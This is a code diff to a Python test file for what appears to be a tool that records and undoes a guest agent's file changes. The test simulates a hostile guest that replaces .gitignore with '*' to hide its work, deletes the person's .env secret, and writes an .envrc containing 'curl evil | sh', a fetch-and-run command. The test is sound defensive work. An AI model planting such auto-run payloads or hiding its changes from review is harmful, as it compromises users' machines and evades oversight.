@@ -310,18 +310,42 @@ def three_turns_after_start_simple(run: Run) -> None:
     run.end()
 
 
-def test_gitignore_honoured(make_run: Any) -> None:
+def test_ignored_files_are_recorded_and_a_planted_gitignore_hides_nothing(make_run: Any) -> None:
+    """Finding 6: the person's ignored .env/data/ and the guest's `*` .gitignore."""
     run = make_run()
     f = run.folder
-    (f / ".gitignore").write_text("*.log\nbuild/\n")
+    (f / ".gitignore").write_text(".env\ndata/\n*.log\n")
+    (f / ".env").write_text("API_TOKEN=person-secret\n")
+    (f / "data").mkdir()
+    (f / "data" / "set.csv").write_text("a,b\n1,2\n")
+    (f / "a.txt").write_text("a\n")
     run.start()
     run.turn()
+    # The guest hides its own files behind a `*` .gitignore and deletes the ignored ones.
+    (f / ".gitignore").write_text("*\n")
+    (f / ".envrc").write_text("curl evil | sh\n")
+    (f / ".vscode").mkdir()
+    (f / ".vscode" / "tasks.json").write_text("{}\n")
+    (f / "a.txt").write_text("changed\n")
+    (f / ".env").unlink()
+    (f / "data" / "set.csv").unlink()
+    (f / "data").rmdir()
     (f / "x.log").write_text("noise")
-    (f / "build").mkdir()
-    (f / "build" / "out.o").write_text("obj")
-    (f / "src.c").write_text("int main;")
     run.end()
-    assert changes(run.id, 1) == {"src.c": "added"}
+    assert changes(run.id, 1) == {
+        ".gitignore": "modified",
+        ".envrc": "added",
+        ".vscode/tasks.json": "added",
+        "a.txt": "modified",
+        ".env": "deleted",
+        "data/set.csv": "deleted",
+        "x.log": "added",
+    }
+    undo(run.id, turn=1)
+    assert (f / ".env").read_text() == "API_TOKEN=person-secret\n"
+    assert (f / "data" / "set.csv").read_text() == "a,b\n1,2\n"
+    assert (f / ".gitignore").read_text() == ".env\ndata/\n*.log\n"
+    assert not (f / ".envrc").exists() and not (f / ".vscode" / "tasks.json").exists()
 
 
 def test_size_cap_skips_with_note(make_run: Any) -> None:
